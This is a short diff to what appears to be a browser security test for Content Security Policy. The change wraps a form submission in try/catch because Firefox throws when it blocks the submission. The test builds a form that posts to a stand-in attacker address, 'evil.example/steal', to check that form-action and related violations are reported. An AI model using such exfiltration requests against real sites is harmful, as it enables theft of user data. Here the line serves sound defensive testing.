@@ -79,7 +79,11 @@ test(
       const form = document.createElement("form");
       form.action = "https://evil.example/steal";
       document.body.append(form);
-      form.submit();
+      try {
+        form.submit();
+      } catch {
+        // Firefox throws where it blocks.
+      }
     }, hostile);
     const wanted = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
     await eventually(async () => {
